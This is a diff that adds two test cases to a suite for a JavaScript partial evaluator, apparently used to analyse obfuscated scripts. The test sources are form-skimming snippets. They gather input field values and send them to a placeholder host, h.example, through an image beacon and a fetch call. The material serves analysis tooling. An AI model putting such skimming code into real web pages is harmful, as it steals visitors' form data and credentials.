@@ -49,6 +49,16 @@ const CASES: { name: string; source: string; has: string[]; not?: string[] }[] =
     has: [],
     not: ['"a/p"'],
   },
+  {
+    name: 'an array filled by a loop the simulation cannot follow is never folded empty',
+    source: `var f = document.querySelectorAll('input'); var d = []; for (var i = 0; i < f.length; i++) d.push(f[i].value); new Image().src = 'https://h.example/c?d=' + btoa(d.join('|'))`,
+    has: ['btoa(d.join('],
+  },
+  {
+    name: 'an array filled by a callback is never folded empty',
+    source: `var d = []; document.addEventListener('change', function (e) { d.push(e.target.value) }); setTimeout(function () { fetch('https://h.example/?' + d.join(',')) }, 9)`,
+    has: ["d.join(',')"],
+  },
 ]
 
 describe('partial evaluator', () => {
